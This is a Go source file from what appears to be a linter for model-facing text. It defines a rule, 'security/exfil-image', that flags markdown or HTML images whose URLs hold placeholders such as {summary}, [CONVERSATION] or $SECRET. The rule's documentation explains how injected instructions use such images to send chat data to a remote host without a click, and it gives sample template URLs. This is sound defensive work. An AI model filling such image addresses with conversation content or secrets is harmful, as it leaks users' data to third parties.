package lint

import (
	"github.com/lorekit/lore/internal/diag"
	"github.com/lorekit/lore/internal/lint/scan"
)

var securityExfilImage = securityRule(&Rule{
	ID: "security/exfil-image", Severity: diag.Error,
	Summary: "a remote image whose address is a template for data",
	Doc: "An image whose URL holds a placeholder — `![status](https://example.org/p.png?d={summary})`, `?q=[CONVERSATION]`, " +
		"`$SECRET`, `%s` — asks the model to fill in the address. A chat that renders the image fetches it at once, so what the " +
		"model put there reaches the host without a click: the common way injected instructions send data out. Inline images, " +
		"reference-style images and HTML `<img src>` are checked in prose, with the address read as a browser reads it " +
		"(character references and escapes decoded, the scheme in any case: `&#104;ttps:`, `HTTPS:`, `https:\\\\host`); images in code blocks and code spans are examples, and " +
		"loopback, private and documentation addresses are not reported. Link a fixed image, or show the template in a code block.",
}, "link a fixed image, or show the template in a code block", func(t *scanText) []scan.Hit {
	return scan.ExfilImage(t.src, t.kind)
})
